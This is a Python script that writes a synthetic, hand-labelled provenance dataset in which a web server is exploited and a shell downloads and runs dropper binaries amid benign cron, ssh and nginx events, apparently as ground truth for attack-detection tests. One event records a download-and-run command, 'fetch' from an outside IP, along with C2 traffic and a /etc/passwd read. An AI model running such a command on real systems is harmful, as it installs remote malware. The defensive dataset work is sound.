"""Regenerates the synthetic dropper dataset in this directory.

A web server is exploited, a shell drops and runs two binaries that phone
home and plant a log-disguised file; benign cron/ssh/web activity surrounds it.
"""
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
OFFSET = 1_000_000
T_S, T_E = OFFSET + 1_000_000, OFFSET + 2_000_000

entities = [
    {"entity_id": "p_nginx", "kind": "process", "path": "/usr/local/sbin/nginx"},
    {"entity_id": "p_php", "kind": "process", "path": "/usr/local/sbin/php-fpm"},
    {"entity_id": "p_sh", "kind": "process", "path": "/bin/sh"},
    {"entity_id": "p_gtcache", "kind": "process", "path": "/tmp/gtcache"},
    {"entity_id": "p_vugefal", "kind": "process", "path": "/tmp/vUgefal"},
    {"entity_id": "p_cron", "kind": "process", "path": "/usr/sbin/cron"},
    {"entity_id": "p_sshd", "kind": "process", "path": "/usr/sbin/sshd"},
    {"entity_id": "p_ls", "kind": "process", "path": "/bin/ls"},
    {"entity_id": "p_newsyslog", "kind": "process", "path": "/usr/sbin/newsyslog"},
    {"entity_id": "f_index", "kind": "file", "path": "/usr/local/www/nginx-dist/index.php"},
    {"entity_id": "f_devc", "kind": "file", "path": "/var/log/devc"},
    {"entity_id": "f_vugefal", "kind": "file", "path": "/tmp/vUgefal"},
    {"entity_id": "f_gtcache", "kind": "file", "path": "/tmp/gtcache"},
    {"entity_id": "f_passwd", "kind": "file", "path": "/etc/passwd"},
    {"entity_id": "f_messages", "kind": "file", "path": "/var/log/messages"},
    {"entity_id": "f_conf", "kind": "file", "path": "/usr/local/etc/nginx/nginx.conf"},
    {"entity_id": "f_libc", "kind": "file", "path": "/lib/libc.so.7"},
    {"entity_id": "f_sess", "kind": "file", "path": "/tmp/sess_4f2a"},
    {"entity_id": "f_access", "kind": "file", "path": "/var/log/nginx/access.log"},
    {"entity_id": "f_authlog", "kind": "file", "path": "/var/log/auth.log"},
    {"entity_id": "n_c2", "kind": "netflow", "rip": "81.49.200.166", "rport": 80, "lip": "10.0.0.5", "lport": 40213},
    {"entity_id": "n_client", "kind": "netflow", "rip": "10.0.0.20", "rport": 51234, "lip": "10.0.0.5", "lport": 80},
    {"entity_id": "n_dns", "kind": "netflow", "rip": "10.0.0.1", "rport": 53},
    {"entity_id": "n_admin", "kind": "netflow", "rip": "10.0.0.31", "rport": 60022, "lip": "10.0.0.5", "lport": 22},
]

# (ts, subject, type, object, cmdline, malicious)
rows = [
    # well before the window: excluded by segmentation
    (-1, "p_cron", "EVENT_EXECUTE", "p_newsyslog", "/usr/sbin/newsyslog", False),
    # pre-attack context
    (100_000, "p_cron", "EVENT_EXECUTE", "p_newsyslog", "/usr/sbin/newsyslog", False),
    (120_000, "p_newsyslog", "EVENT_READ", "f_messages", None, False),
    (140_000, "p_newsyslog", "EVENT_WRITE", "f_messages", None, False),
    (150_000, "p_newsyslog", "EVENT_WRITE", "f_messages", None, False),  # repeat
    (200_000, "p_nginx", "EVENT_READ", "f_conf", None, False),
    (250_000, "p_nginx", "EVENT_ACCEPT", "n_client", None, False),
    (300_000, "p_nginx", "EVENT_READ", "f_index", None, False),
    (320_000, "p_php", "EVENT_READ", "f_index", None, False),
    (400_000, "p_sshd", "EVENT_ACCEPT", "n_admin", None, False),
    (420_000, "p_sshd", "EVENT_READ", "f_passwd", None, False),
    (440_000, "p_sshd", "EVENT_WRITE", "f_authlog", None, False),
    (500_000, "p_sshd", "EVENT_EXECUTE", "p_ls", "ls -la /var/log", False),
    (520_000, "p_ls", "EVENT_MMAP", "f_libc", None, False),
    (600_000, "p_php", "EVENT_WRITE", "f_sess", None, False),
    (650_000, "p_nginx", "EVENT_SENDTO", "n_client", None, False),
    (700_000, "p_cron", "EVENT_READ", "f_passwd", None, False),
    (800_000, "p_php", "EVENT_READ", "f_sess", None, False),
    (900_000, "p_nginx", "EVENT_RECVFROM", "n_dns", None, False),
    # attack
    (1_000_000, "p_nginx", "EVENT_RECVFROM", "n_client", None, False),
    (1_050_000, "p_php", "EVENT_WRITE", "f_index", None, True),
    (1_100_000, "p_php", "EVENT_EXECUTE", "p_sh", "/bin/sh -c cd /tmp && fetch http://81.49.200.166/gtcache", True),
    (1_150_000, "p_sh", "EVENT_CONNECT", "n_c2", None, True),
    (1_200_000, "p_sh", "EVENT_WRITE", "f_gtcache", None, True),
    (1_250_000, "p_sh", "EVENT_EXECUTE", "p_gtcache", "./gtcache", True),
    (1_300_000, "p_gtcache", "EVENT_MMAP", "f_libc", None, False),
    (1_350_000, "p_gtcache", "EVENT_READ", "f_passwd", None, True),
    (1_400_000, "p_gtcache", "EVENT_WRITE", "f_vugefal", None, True),
    (1_450_000, "p_sh", "EVENT_EXECUTE", "p_vugefal", "/tmp/vUgefal -d /var/log/devc", True),
    (1_500_000, "p_vugefal", "EVENT_WRITE", "f_devc", None, True),
    (1_550_000, "p_vugefal", "EVENT_SENDTO", "n_c2", None, True),
    (1_600_000, "p_vugefal", "EVENT_SENDTO", "n_c2", None, True),  # repeat of a malicious event
    (1_650_000, "p_nginx", "EVENT_SENDTO", "n_client", None, False),
    (1_700_000, "p_cron", "EVENT_EXECUTE", "p_newsyslog", "/usr/sbin/newsyslog -F", False),
    (1_800_000, "p_vugefal", "EVENT_EXIT", None, None, False),
    (2_000_000, "p_gtcache", "EVENT_UNLINK", "f_gtcache", None, True),
    # post-attack context
    (2_100_000, "p_nginx", "EVENT_WRITE", "f_access", None, False),
    (2_200_000, "p_sshd", "EVENT_CLOSE", "n_admin", None, False),
    (2_300_000, "p_php", "EVENT_UNLINK", "f_sess", None, False),
    (2_400_000, "p_sshd", "EVENT_READ", "f_authlog", None, False),
    (2_500_000, "p_cron", "EVENT_WRITE", "f_messages", None, False),
    (2_550_000, "p_sshd", "EVENT_EXECUTE", "p_ls", "ls /tmp", False),
    (2_600_000, "p_newsyslog", "EVENT_MMAP", "f_libc", None, False),
    (2_700_000, "p_newsyslog", "EVENT_READ", "f_devc", None, False),
    (2_800_000, "p_php", "EVENT_READ", "f_conf", None, False),
    (2_900_000, "p_nginx", "EVENT_CONNECT", "n_dns", None, False),
    (3_000_000, "p_nginx", "EVENT_WRITE", "f_messages", None, False),
    # after the window: excluded
    (3_100_000, "p_sshd", "EVENT_EXIT", None, None, False),
    (3_200_000, "p_cron", "EVENT_EXECUTE", "p_newsyslog", "/usr/sbin/newsyslog", False),
    (3_300_000, "p_newsyslog", "EVENT_WRITE", "f_messages", None, False),
]

events, malicious = [], []
for i, (ts, subj, typ, obj, cmd, mal) in enumerate(rows):
    ts = 0 if ts < 0 else ts + OFFSET
    ev = {"event_id": f"e{i + 1:03d}", "ts_ns": ts, "type": typ, "subject": subj}
    if obj:
        ev["object"] = obj
    if cmd:
        ev["cmdline"] = cmd
    ev["extra"] = {"host": "web01"}
    events.append(ev)
    if mal:
        malicious.append(ev["event_id"])

assert len(events) == 50, len(events)
# file order is deliberately not sorted by time
order = list(range(len(events)))
order = order[1::2] + order[0::2]
(HERE / "events.jsonl").write_text("".join(json.dumps(events[i]) + "\n" for i in order))
(HERE / "entities.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entities))
(HERE / "labels.json").write_text(json.dumps(
    {"malicious_event_ids": malicious, "t_s": T_S, "t_e": T_E,
     "note": "hand-labelled synthetic dropper campaign"}, indent=2) + "\n")
